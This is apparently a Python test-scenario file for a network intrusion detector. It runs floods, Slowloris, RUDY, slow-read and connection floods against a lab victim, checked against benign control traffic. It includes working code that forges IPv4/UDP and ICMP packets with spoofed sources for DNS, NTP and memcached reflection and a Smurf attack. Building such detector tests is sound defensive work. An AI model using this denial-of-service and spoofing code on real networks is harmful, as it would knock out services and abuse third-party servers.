"""floods.py: floods by real tools and by forged questions to real servers, live.

The victim has nginx and sshd, and ordinary clients use it meanwhile.  Whom packets with
forged sources come from can't be known, so no finding need name the attacker.
"""
import concurrent.futures
import contextlib
import ipaddress
import itertools
import re
import socket
import struct
import threading
import time

from evaluation import Skip, e2e, scenario
from field import ATTACKER, BYSTANDER, VICTIM
from scans import ordinary_traffic, site

FLOOD_S = 5        # how long each lasts
LEARN_S = 11       # in the first ten seconds a detector learns what is usual
REFLECTORS = 60
SLOW_CONNECTIONS = 300
CLIENTS = 8
FLOOD_LEAST = FLOOD_S * 5000  # of --flood; a machine too busy to make that judges nothing
ALL_PORTS_LEAST = 3 * 65536  # with less, who knows whether it is a scan
FORMS_PORT = 8080
FILES_PORT = 8081
STALLED_S = 22     # three visits of a connection, after the first ten seconds
FORGED = ("spoofed_source",)  # says the same of the same packets
ZONE = """$TTL 60
@ SOA ns hostmaster 1 60 60 60 60
@ NS ns
ns A 192.0.2.1
""" + "".join(f'large TXT "{number:02} {"x" * 200}"\n' for number in range(5))


def flood(trial, kind, *command, seconds=FLOOD_S, least=1, **truth):
    """hping3, for some seconds; with fewer packets than least it is no flood."""
    place = site(trial)
    trial.watch(place.victim, captures=False)
    with ordinary_traffic(place), \
            trial.attack(kind, server=VICTIM, **{"also": FORGED, **truth}):
        done = place.attacker.tree("timeout", "-s", "INT", str(seconds), *command,
                                   status=None, seconds=seconds + 10)
    said = re.search(r"(\d+) packets tra", done.stdout + done.stderr)
    sent = int(said[1]) if said else 0
    trial.say(f"{sent} packets sent")
    if sent < least:
        raise Skip(f"this machine made {sent} packets, {least} are needed")
    trial.judge()


def add_hping3(name, kind, *arguments, quick=False, **truth):
    truth.setdefault("least", FLOOD_LEAST if "--flood" in arguments else 1)

    @scenario(f"hping3-{name}", "floods", quick=quick)
    def run(trial):
        flood(trial, kind, "hping3", "-n", "-q", *arguments, VICTIM, **truth)


for forged in ((), ("--rand-source",)):
    word = "-rand-source" if forged else ""
    add_hping3(f"syn{word}", "syn_flood", "-S", "-p", "80", "--flood", *forged, port=80,
               quick=bool(forged))
    add_hping3(f"udp{word}", "udp_flood", "--udp", "-p", "9999", "-d", "64", "--flood",
               *forged, techniques=("port",), port=9999)
    add_hping3(f"icmp{word}", "icmp_flood", "--icmp", "--flood", *forged,
               techniques=("echo",))
add_hping3("syn-rand-source-1000pps", "syn_flood", "-S", "-p", "80", "-i", "u1000",
           "--rand-source", port=80)
add_hping3("syn-rand-source-closed", "syn_flood", "-S", "-p", "81", "--flood",
           "--rand-source", port=81)
add_hping3("udp-all-ports", "udp_flood", "--udp", "-p", "++1", "--flood", "--rand-source",
           techniques=("host",), also=(*FORGED, "port_scan"), seconds=2 * FLOOD_S,
           least=ALL_PORTS_LEAST)


# ---- connections ---------------------------------------------------------------------

class Slow:
    """Slowloris and its like: many connections, each kept alive with a bit at a time."""

    def __init__(self, network, port, first, more, addresses):
        self.network, self.port, self.more = network, port, more
        self.first, self.addresses = first, addresses
        self.lines = []

    def open(self):
        while len(self.lines) < SLOW_CONNECTIONS:
            line = self.network.socket()
            line.bind((self.addresses[len(self.lines) % len(self.addresses)], 0))
            line.connect((VICTIM, self.port))
            line.sendall(self.first)
            self.lines.append(line)

    def hold(self, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for line in self.lines:
                with contextlib.suppress(OSError):
                    line.sendall(self.more)
            time.sleep(2)

    def close(self):
        for line in self.lines:
            line.close()


def serve_forms(trial, network):
    """nginx before a server: it waits for the whole form first."""
    config = trial.write("forms.conf", f"""
daemon off; master_process off; pid {trial.lab.dir}/forms.pid; error_log stderr;
events {{ worker_connections 4096; }}
http {{ access_log off; client_body_temp_path {trial.lab.dir}/body;
server {{ listen {FORMS_PORT}; location / {{ proxy_pass http://127.0.0.1:80; }} }} }}
""")
    network.start_tree("nginx", "-c", config)
    e2e.until(lambda: network.listens(FORMS_PORT), "nginx")


def slow_requests(trial, first, more, addresses=(ATTACKER,), port=80):
    place = site(trial)
    serve_forms(trial, place.victim)
    for address in addresses:
        if address != ATTACKER:
            place.attacker.ip("addr", "add", f"{address}/16", "dev", "net0")
    trial.watch(place.victim, captures=False)
    slow = Slow(place.attacker, port, first, more, addresses)
    with ordinary_traffic(place), \
            trial.attack("connection_flood", server=VICTIM, port=port,
                         techniques=("slow_request",)):
        slow.open()
        slow.hold(14)
    trial.judge()
    slow.close()


def serve_file(trial, network):
    """nginx with something large."""
    trial.write("large.bin", "x" * (8 << 20))
    config = trial.write("files.conf", f"""
daemon off; master_process off; pid {trial.lab.dir}/files.pid; error_log stderr; user root;
events {{ worker_connections 4096; }}
http {{ access_log off; server {{ listen {FILES_PORT}; root {trial.lab.dir}; }} }}
""")
    network.start_tree("nginx", "-c", config)
    e2e.until(lambda: network.listens(FILES_PORT), "nginx")


def ask_and_wait(network, address, count):
    """Who asks for it, and takes next to nothing; the connections."""
    lines = []
    for _ in range(count):
        line = network.socket()
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        line.bind((address, 0))
        line.connect((VICTIM, FILES_PORT))
        line.sendall(b"GET /large.bin HTTP/1.1\r\nHost: victim\r\n\r\n")
        lines.append(line)
    return lines


@scenario("slow-read", "floods")
def slow_read(trial):
    place = site(trial)
    serve_file(trial, place.victim)
    trial.watch(place.victim, captures=False)
    with ordinary_traffic(place), \
            trial.attack("connection_flood", server=VICTIM, port=FILES_PORT,
                         techniques=("slow_read",)):
        lines = ask_and_wait(place.attacker, ATTACKER, SLOW_CONNECTIONS // 3)
        time.sleep(STALLED_S)
    trial.judge()
    for line in lines:
        line.close()


@scenario("benign-paused-downloads", "benign")
def paused_downloads(trial):
    """Sixty clients, each with two videos that wait for the viewer."""
    place = site(trial)
    serve_file(trial, place.victim)
    viewers = place.addresses(place.bystander, 60, "62.38.30.1")
    trial.watch(place.victim, captures=False)
    with ordinary_traffic(place):
        lines = [line for viewer in viewers
                 for line in ask_and_wait(place.bystander, viewer, 2)]
        time.sleep(STALLED_S)
    trial.judge(settle_s=2)
    for line in lines:
        line.close()


@scenario("slowloris", "floods")
def slowloris(trial):
    slow_requests(trial, b"GET / HTTP/1.1\r\nHost: victim\r\n", b"X-a: b\r\n")


@scenario("slowloris-30-sources", "floods")
def slowloris_distributed(trial):
    slow_requests(trial, b"GET / HTTP/1.1\r\nHost: victim\r\n", b"X-a: b\r\n",
                  [f"185.60.9.{number}" for number in range(1, 31)])


@scenario("rudy", "floods")
def rudy(trial):
    slow_requests(trial, b"POST / HTTP/1.1\r\nHost: victim\r\nContent-Length: 1000000\r\n"
                  b"Content-Type: application/x-www-form-urlencoded\r\n\r\na=", b"x",
                  port=FORMS_PORT)


def ask_all(network, addresses, over):
    """One connection after the other, as fast as can be; how many."""
    count = 0
    for address in itertools.cycle(addresses):
        if over.is_set():
            return count
        with contextlib.suppress(OSError), network.inside(), \
                socket.socket(socket.AF_INET, socket.SOCK_STREAM) as line:
            line.settimeout(5)
            line.bind((address, 0))
            line.connect((VICTIM, 80))
            line.sendall(b"GET / HTTP/1.0\r\n\r\n")
            while line.recv(4096):
                pass
            count += 1


@contextlib.contextmanager
def connections_by(network, addresses):
    """As many as eight clients at once can make."""
    over = threading.Event()
    with concurrent.futures.ThreadPoolExecutor(CLIENTS) as pool:
        asked = [pool.submit(ask_all, network, addresses[first::CLIENTS] or addresses, over)
                 for first in range(CLIENTS)]
        try:
            yield asked
        finally:
            over.set()


@scenario("connections-one-source", "floods")
def connections(trial):
    place = site(trial)
    trial.watch(place.victim, captures=False)
    with ordinary_traffic(place):
        time.sleep(LEARN_S)
        with trial.attack("connection_flood", server=VICTIM, port=80, client=ATTACKER,
                          techniques=("connections",)), \
                connections_by(place.attacker, [ATTACKER]) as asked:
            time.sleep(2 * FLOOD_S)
    trial.say(f"{sum(one.result() for one in asked)} connections")
    trial.judge(wait_s=10)  # of a connection that has ended is told some seconds later


@scenario("benign-flash-crowd", "benign", lane="alone")
def flash_crowd(trial):
    """Many clients, of whom none makes much, all of a sudden."""
    place = site(trial)
    crowd = place.addresses(place.bystander, 250, "62.38.30.1")
    trial.watch(place.victim, captures=False)
    with ordinary_traffic(place):
        time.sleep(LEARN_S)
        with connections_by(place.bystander, crowd) as asked:
            time.sleep(2 * FLOOD_S)
    trial.say(f"{sum(one.result() for one in asked)} connections")
    trial.judge(settle_s=8)


@scenario("benign-proxy", "benign", lane="alone")
def proxy(trial):
    """One source of most connections, which was there before we were."""
    place = site(trial)
    with ordinary_traffic(place), connections_by(place.bystander, [BYSTANDER]) as asked:
        time.sleep(1)
        trial.watch(place.victim, captures=False)
        time.sleep(LEARN_S + 2 * FLOOD_S)
    trial.say(f"{sum(one.result() for one in asked)} connections")
    trial.judge(settle_s=8)


# ---- reflection ----------------------------------------------------------------------

def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def datagram(source, source_port, target, port, payload):
    """IPv4 and UDP, from whomever; the kernel adds IPv4's checksum."""
    udp = struct.pack(">4H", source_port, port, 8 + len(payload), 0)
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0,
                       ipaddress.ip_address(source).packed,
                       ipaddress.ip_address(target).packed)
    return head + udp + payload


def echo_request(source, target, number):
    icmp = struct.pack(">BBHHH", 8, 0, 0, 77, number & 0xffff) + b"x" * 56
    icmp = icmp[:2] + struct.pack(">H", checksum(icmp)) + icmp[4:]
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), 0, 0, 64, 1, 0,
                       ipaddress.ip_address(source).packed,
                       ipaddress.ip_address(target).packed)
    return head + icmp


def send_forged(network, packets, rate, seconds):
    """packets(n): what to send as number n, and to whom."""
    with network.inside():
        line = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begin, sent = time.monotonic(), 0
    while (passed := time.monotonic() - begin) < seconds:
        while sent < passed * rate:
            data, target = packets(sent)
            with contextlib.suppress(OSError):
                line.sendto(data, (target, 0))
            sent += 1
        time.sleep(0.002)
    line.close()


def dns_query():
    name = b"".join(bytes([len(label)]) + label for label in
                    (b"large", b"harbour", b"example")) + b"\0"
    return (struct.pack(">6H", 7, 0x0100, 1, 0, 0, 1) + name + struct.pack(">HH", 16, 1) +
            b"\0" + struct.pack(">HHIH", 41, 4096, 0, 0))


def serve_names(trial, network):
    """BIND at every address of that host."""
    trial.write("harbour.zone", ZONE)
    network.start_tree("named", "-f", "-n", "1", "-c", trial.write("named.conf", f"""
options {{ directory "{trial.lab.dir}"; pid-file none; session-keyfile none;
listen-on {{ any; }}; listen-on-v6 {{ none; }}; recursion no; dnssec-validation no;
max-udp-size 4096; }};
controls {{ }};
zone "harbour.example" {{ type primary; file "harbour.zone"; }};
"""))
    wait_for_answer(network, 53, dns_query())


def serve_cache(trial, network):
    """memcached, with something large in it."""
    network.start_tree("memcached", "-u", "root", "-U", "11211", "-m", "8")
    e2e.until(lambda: network.listens(11211), "memcached")
    with network.socket() as line:
        line.connect(("127.0.0.1", 11211))
        line.sendall(b"set a 0 0 60000\r\n" + b"x" * 60000 + b"\r\n")
        line.recv(100)


CACHE_QUERY = struct.pack(">4H", 7, 0, 1, 0) + b"get a\r\n"


def serve_time(trial, network):
    """chronyd, which answers everybody from its own clock."""
    network.start_tree("chronyd", "-d", "-x", "-u", "root", "-f", trial.write("chrony.conf", f"""
allow all
local stratum 3
cmdport 0
bindcmdaddress /
pidfile {trial.lab.dir}/chronyd.pid
"""))
    wait_for_answer(network, 123, TIME_QUERY)


TIME_QUERY = b"\x23" + b"\0" * 47


def wait_for_answer(network, port, query):
    def answers():
        with network.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.settimeout(0.2)
            line.connect(("127.0.0.1", port))
            try:
                line.send(query)
                return bool(line.recv(8192))
            except OSError:
                return False

    e2e.until(answers, f"an answer of udp/{port}")


def reflected(trial, port, query, serve, rate, count, technique):
    """Servers elsewhere answer what somebody asks them in the victim's name."""
    place = site(trial)
    servers = place.addresses(place.bystander, count, "62.38.20.2") if count > 1 \
        else [BYSTANDER]
    serve(trial, place.bystander)
    trial.watch(place.victim, captures=False)

    def packet(number):
        target = servers[number % len(servers)]
        return datagram(VICTIM, 20000 + number % 20000, target, port, query), target

    with ordinary_traffic(place), trial.attack("reflection_victim", server=VICTIM,
                                               techniques=(technique,)):
        send_forged(place.attacker, packet, rate, FLOOD_S)
    trial.judge()


@scenario("reflection-dns-60", "floods", quick=True)
def reflection_dns(trial):
    reflected(trial, 53, dns_query(), serve_names, 2000, REFLECTORS, "dns")


@scenario("reflection-ntp-60", "floods")
def reflection_ntp(trial):
    reflected(trial, 123, TIME_QUERY, serve_time, 2000, REFLECTORS, "ntp")


@scenario("reflection-memcached-1", "floods")
def reflection_memcached(trial):
    reflected(trial, 11211, CACHE_QUERY, serve_cache, 300, 1, "memcached")


@scenario("smurf", "floods")
def smurf(trial):
    place = site(trial)
    hosts = place.addresses(place.bystander, REFLECTORS, "62.38.20.2")
    trial.watch(place.victim, captures=False)

    def packet(number):
        target = hosts[number % len(hosts)]
        return echo_request(VICTIM, target, number), target

    with ordinary_traffic(place), trial.attack("reflection_victim", server=VICTIM,
                                               techniques=("icmp",)):
        send_forged(place.attacker, packet, 2000, FLOOD_S)
    trial.judge()


def reflecting(trial, port, query, serve, rate, technique):
    """The victim's server answers the attacker's questions to the bystander."""
    place = site(trial)
    serve(trial, place.victim)
    trial.watch(place.victim, captures=False)

    def packet(number):
        return datagram(BYSTANDER, 20000 + number % 20000, VICTIM, port, query), VICTIM

    with ordinary_traffic(place), trial.attack("reflector", server=VICTIM, port=port,
                                               techniques=(technique,)):
        send_forged(place.attacker, packet, rate, 2 * FLOOD_S)
    trial.judge(wait_s=7)  # what a service answers is added up for five seconds


@scenario("reflector-dns", "floods")
def reflector_dns(trial):
    reflecting(trial, 53, dns_query(), serve_names, 500, "dns")


@scenario("reflector-memcached", "floods")
def reflector_memcached(trial):
    reflecting(trial, 11211, CACHE_QUERY, serve_cache, 50, "memcached")
